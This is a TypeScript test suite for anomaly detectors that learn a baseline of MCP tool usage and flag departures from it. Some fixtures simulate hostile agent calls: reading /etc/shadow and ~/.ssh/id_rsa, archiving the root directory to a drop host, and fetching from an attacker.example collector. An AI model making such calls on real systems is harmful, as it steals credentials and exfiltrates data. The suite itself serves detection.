import { afterEach, describe, expect, it } from 'vitest';
import { EventWork } from '../../detectors/sharedEventWork.js';
import { createDetectors } from '../../detectors/usage/index.js';
import type { McpAlert } from '../../pipeline/types/mcpAlert.js';
import type { McpEvent } from '../../pipeline/types/mcpEvent.js';
import { onlyAlert as only, openTempState, runChecked, runDetectors, runFresh, ruleIds, stateRows, type TempState } from './detectorHarness.js';
import { TranscriptScript, type ScriptServer, type ScriptTool } from './transcriptScript.js';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const START = '2026-03-02T09:00:00Z';
const CONFIG = {
  learningPeriodMs: HOUR,
  minSamples: 5,
  minShapeCalls: 3,
  minRateBuckets: 10,
  minSpikeCalls: 10,
  minOversizedBytes: 1000,
  minLongArgumentChars: 100,
  errorWindowMs: 10 * MINUTE,
  minErrorWindowCalls: 5,
};
const RULE = {
  firstUse: 'tapwire.usage.tool.first-use',
  rateSpike: 'tapwire.usage.tool.rate-spike',
  unseenKey: 'tapwire.usage.tool.unseen-argument-key',
  unseenHost: 'tapwire.usage.tool.unseen-url-host',
  unseenRoot: 'tapwire.usage.tool.unseen-path-root',
  longArgument: 'tapwire.usage.tool.long-argument',
  oversized: 'tapwire.usage.tool.oversized-result',
  errorRate: 'tapwire.usage.tool.error-rate',
  sequence: 'tapwire.usage.tool.destructive-sequence',
  principalSpike: 'tapwire.usage.principal.rate-spike',
  offHours: 'tapwire.usage.principal.off-hours',
};

const FS_TOOLS: ScriptTool[] = [
  { name: 'list_directory', annotations: { readOnlyHint: true } },
  { name: 'read_file', annotations: { readOnlyHint: true } },
  { name: 'write_file', annotations: { destructiveHint: true } },
  { name: 'search_files', annotations: { readOnlyHint: true } },
  { name: 'move_file', annotations: { readOnlyHint: false } },
  { name: 'archive', annotations: { destructiveHint: true } },
];

/** A session of the filesystem server (one server identity, many sessions). */
function fs(script: TranscriptScript, session: string): ScriptServer {
  return script.server({ name: 'fs', command: 'npx -y @modelcontextprotocol/server-filesystem /home/alice/projects', session });
}

function web(script: TranscriptScript, session: string): ScriptServer {
  return script.server({ name: 'web', command: 'uvx mcp-server-fetch', session });
}

/**
 * An hour of ordinary work that the baselines learn: list, read, sometimes write, under
 * /home/alice/projects; fetches from two API hosts. Leaves the clock just past the learning period.
 */
function learningHour(script: TranscriptScript): void {
  const files = fs(script, 'fs-learning').initialize().listTools(FS_TOOLS);
  const fetcher = web(script, 'web-learning').initialize().listTools([{ name: 'fetch', annotations: { readOnlyHint: true, openWorldHint: true } }]);
  for (let i = 0; i < 30; i++) {
    files.call('list_directory', { path: '/home/alice/projects' }, { text: 'doc0.md\ndoc1.md\ndoc2.md' });
    files.call('read_file', { path: `/home/alice/projects/doc${i % 5}.md` }, { text: 'x'.repeat(200 + (i % 7) * 20) });
    if (i % 3 === 0) files.call('write_file', { path: `/home/alice/projects/doc${i % 5}.md`, content: 'y'.repeat(40 + i) });
    fetcher.call('fetch', { url: i % 2 === 0 ? `https://api.weather.example/v1/today?city=${i}` : `https://docs.example.org/page/${i}` }, { text: 'page' });
    script.advance(2 * MINUTE);
  }
  script.advance(5 * MINUTE);
}

function afterLearning(act: (script: TranscriptScript) => void): McpEvent[] {
  const script = new TranscriptScript(START, 'laptop/1');
  learningHour(script);
  act(script);
  return script.events();
}

function run(events: McpEvent[], config: Record<string, unknown> = CONFIG): McpAlert[] {
  return runChecked(createDetectors(config), events);
}

describe('usage baselines: learning and hard negatives', () => {
  it('raises nothing while learning, however unusual the calls', () => {
    const script = new TranscriptScript(START, 'laptop/1');
    const files = fs(script, 's1').initialize().listTools(FS_TOOLS);
    files.call('read_file', { path: '/etc/shadow' }, { text: 'z'.repeat(50_000) });
    files.call('archive', { target: '/', to: 'https://drop.example/x' });
    for (let i = 0; i < 40; i++) files.call('read_file', { path: `/tmp/${i}` });
    expect(run(script.events())).toEqual([]);
  });

  it('raises nothing for more of the learned work after learning: same keys, roots, hosts, sizes, sequences and hours', () => {
    const events = afterLearning((script) => {
      const files = fs(script, 'fs-after').initialize();
      files.call('list_directory', { path: '/home/alice/projects' }, { text: 'doc0.md' });
      files.call('read_file', { path: '/home/alice/projects/new-notes.md' }, { text: 'x'.repeat(250) });
      files.call('write_file', { path: '/home/alice/projects/new-notes.md', content: 'short edit' });
      web(script, 'web-after').initialize().call('fetch', { url: 'https://docs.example.org/another' });
      for (let i = 0; i < 6; i++) files.call('read_file', { path: '/home/alice/projects/doc1.md' }, { text: 'x'.repeat(210) });
    });
    expect(run(events)).toEqual([]);
  });
});

describe('usage baselines: alerts after learning', () => {
  it('flags the first use of a tool the baseline never saw called', () => {
    const alert = only(run(afterLearning((script) => fs(script, 'after').initialize().call('move_file', { source: '/home/alice/projects/a', destination: '/home/alice/projects/b' }))), RULE.firstUse);
    expect(alert.gen_ai?.tool?.name).toBe('move_file');
    expect(alert.alert.details).toMatchObject({ baseline: 'tools', baseline_tools: 3, learning_period_ms: HOUR });
  });

  it('flags an unseen filesystem root, not a new file under a known one', () => {
    const alerts = run(afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      files.call('read_file', { path: '/home/alice/projects/other.md' });
      files.call('read_file', { path: '~/.ssh/id_rsa' });
    }));
    const alert = only(alerts, RULE.unseenRoot);
    expect(alert.alert.details).toMatchObject({ baseline: 'path_roots', unseen: ['~/.ssh'], baseline_sample: ['/home/alice'], baseline_calls: 31 });
    expect(alert.message).toContain('"~/.ssh"');
    expect(ruleIds(alerts)).toEqual([RULE.unseenRoot]);
  });

  it('flags an unseen URL host and an unseen argument key', () => {
    const alerts = run(afterLearning((script) => web(script, 'after').initialize().call('fetch', { url: 'https://collector.attacker.example/up?d=1', headers: { 'x-a': '1' } })));
    expect(ruleIds(alerts)).toEqual([RULE.unseenKey, RULE.unseenHost]);
    expect(only(alerts, RULE.unseenHost).alert.details).toMatchObject({ unseen: ['collector.attacker.example'], baseline_values: 2 });
    expect(only(alerts, RULE.unseenKey).alert.details).toMatchObject({ unseen: ['headers', 'headers.x-a'] });
  });

  it('flags a call-rate spike once per bucket, for the tool and for the principal, and not a busy minute within the baseline', () => {
    const busy = run(afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      for (let i = 0; i < 8; i++) files.call('list_directory', { path: '/home/alice/projects' });
    }));
    expect(busy).toEqual([]);
    const flood = run(afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      for (let i = 0; i < 45; i++) files.call('list_directory', { path: '/home/alice/projects' });
    }));
    expect(ruleIds(flood)).toEqual([RULE.principalSpike, RULE.rateSpike]);
    const spike = only(flood, RULE.rateSpike).alert.details as { observed: number; threshold: number; baseline_max: number; ratio: number };
    expect(spike.observed).toBe(spike.threshold);
    expect(spike.threshold).toBeGreaterThanOrEqual(10);
    expect(spike.ratio).toBeGreaterThan(1);
  });

  it('flags an oversized result against the largest the baseline saw', () => {
    const alerts = run(afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      files.call('read_file', { path: '/home/alice/projects/doc1.md' }, { text: 'x'.repeat(600) });
      files.call('read_file', { path: '/home/alice/projects/dump.sql' }, { text: 'x'.repeat(40_000) });
    }));
    const alert = only(alerts, RULE.oversized);
    const details = alert.alert.details as { observed_bytes: number; baseline_max_bytes: number; ratio: number };
    expect(details.observed_bytes).toBeGreaterThan(40_000);
    expect(details.ratio).toBeGreaterThan(20);
    expect(alert.mcp?.session?.id).toBeDefined();
  });

  it('flags an argument many times longer than its key ever was', () => {
    const alert = only(run(afterLearning((script) => fs(script, 'after').initialize().call('write_file', { path: '/home/alice/projects/doc1.md', content: 'q'.repeat(2_000) }))), RULE.longArgument);
    expect(alert.alert.details).toMatchObject({ argument: 'content', observed: 2_000, baseline_max: 67 });
  });

  it('flags an error-rate spike once per window', () => {
    const alerts = run(afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      for (let i = 0; i < 8; i++) files.call('read_file', { path: `/home/alice/projects/missing${i}.md` }, { text: 'ENOENT', isError: true });
    }));
    const alert = only(alerts, RULE.errorRate);
    expect(alert.alert.details).toMatchObject({ window_errors: 5, window_calls: 5, baseline_rate: 0 });
  });

  it('flags an unseen sequence with a destructive tool, citing every call of it, but not the learned read-then-write workflow', () => {
    const workflow = run(afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      files.call('list_directory', { path: '/home/alice/projects' });
      files.call('read_file', { path: '/home/alice/projects/doc2.md' }, { text: 'x'.repeat(220) });
      files.call('write_file', { path: '/home/alice/projects/doc2.md', content: 'edited text' });
    }));
    expect(workflow).toEqual([]);
    const events = afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      files.call('list_directory', { path: '/home/alice/projects' });
      files.call('write_file', { path: '/home/alice/projects/doc2.md', content: 'overwritten' });
    });
    const alert = only(run(events), RULE.sequence);
    const calls = events.filter((e) => e.mcp.session.id === alert.mcp?.session?.id && e.mcp.message?.kind === 'request' && e.gen_ai?.tool);
    expect(alert.alert.source_event_ids).toEqual(calls.map((e) => e.event.id));
    expect(alert.alert.details).toMatchObject({ sequence: ['list_directory', 'write_file'], destructive_tools: { write_file: 'destructiveHint' } });
  });

  it('flags use at an hour the principal never used the server, and not a neighbouring hour', () => {
    const neighbour = run(afterLearning((script) => {
      script.at('2026-03-02T10:40:00Z');
      fs(script, 'after').initialize().call('list_directory', { path: '/home/alice/projects' });
    }));
    expect(neighbour).toEqual([]);
    const alert = only(run(afterLearning((script) => {
      script.at('2026-03-03T03:10:00Z');
      fs(script, 'after').initialize().call('list_directory', { path: '/home/alice/projects' });
    })), RULE.offHours);
    expect(alert.alert.details).toMatchObject({ baseline: 'time_of_day', hour: 3, principal: 'host:unknown', baseline_hours: { '09:00': expect.any(Number) } });
  });
});

describe('usage baselines: roll-up, determinism and bounds', () => {
  let temp: TempState | undefined;
  afterEach(() => {
    temp?.close();
    temp = undefined;
  });

  it('rolls idle buckets into the rate baseline on ticks, so a quiet tool keeps a low mean', () => {
    temp = openTempState();
    const script = new TranscriptScript(START, 'laptop/1');
    learningHour(script);
    runDetectors(createDetectors(CONFIG), script.events(), temp.state, { tickIntervalMs: MINUTE });
    const partition = temp.state.partitions('tapwire.usage.tool/tool').find((p) => p.includes('server-filesystem'))!;
    const before = temp.state.get<{ rate: { history: { n: number } } }>(partition, 'tapwire.usage.tool/tool', 'read_file')!.rate.history.n;
    const [detector] = createDetectors(CONFIG);
    temp.state.transaction(() => detector!.onTick!({ state: temp!.state, now: script.now + 3 * HOUR, shared: new EventWork() }));
    const after = temp.state.get<{ rate: { history: { n: number; mean: number } } }>(partition, 'tapwire.usage.tool/tool', 'read_file')!.rate.history;
    expect(after.n - before).toBeGreaterThanOrEqual(180);
    expect(after.mean).toBeLessThan(0.5);
  });

  it('gives the same alerts and fingerprints for the same events, whatever the batch size', () => {
    const events = afterLearning((script) => {
      const files = fs(script, 'after').initialize();
      files.call('read_file', { path: '/etc/passwd' }, { text: 'x'.repeat(30_000) });
      files.call('archive', { target: '/home/alice/projects' });
    });
    const first = run(events);
    expect(ruleIds(first)).toEqual([RULE.sequence, RULE.firstUse, RULE.oversized, RULE.unseenRoot]);
    expect(runFresh(createDetectors(CONFIG), events, { batchSize: 7 })).toEqual(first);
  });

  it('keeps sessions and principals bounded by entries with 10,000 sessions on one server, with no tick', () => {
    temp = openTempState();
    const script = new TranscriptScript(START, 'laptop/1');
    for (let i = 0; i < 10_000; i++) fs(script, `s${i}`).call('read_file', { path: `/home/u${i}/a.txt` }).call('write_file', { path: `/home/u${i}/a.txt`, content: 'x' });
    const events = script.events().map((e, i) => ({ ...e, user: { name: `user${Math.floor(i / 4)}` } }));
    const caps = { maxSessionsPerServer: 500, maxPrincipalsPerServer: 300, maxValuesPerSet: 50, maxSequencesPerServer: 100 };
    runDetectors(createDetectors({ ...CONFIG, ...caps }), events, temp.state, { tickIntervalMs: 365 * 24 * HOUR, batchSize: 5_000 });
    expect(stateRows(temp.file, 'tapwire.usage.tool/session')).toBeLessThanOrEqual(caps.maxSessionsPerServer + 1);
    expect(stateRows(temp.file, 'tapwire.usage.principal/principal')).toBeLessThanOrEqual(caps.maxPrincipalsPerServer + 1);
    const profile = temp.state.get<{ pathRoots: string[] }>(temp.state.partitions('tapwire.usage.tool/tool')[0]!, 'tapwire.usage.tool/tool', 'read_file')!;
    expect(profile.pathRoots).toHaveLength(caps.maxValuesPerSet);
    expect(profile.pathRoots.at(-1)).toBe('/home/u9999');
  });

  it('rejects bad settings naming the field', () => {
    expect(() => createDetectors({ learningPeriodMs: 0 })).toThrow(/learningPeriodMs/);
    expect(() => createDetectors({ sequenceLength: 9 })).toThrow(/sequenceLength/);
    expect(() => createDetectors({ learningPeriod: 5 })).toThrow(/learningPeriod/);
  });
});
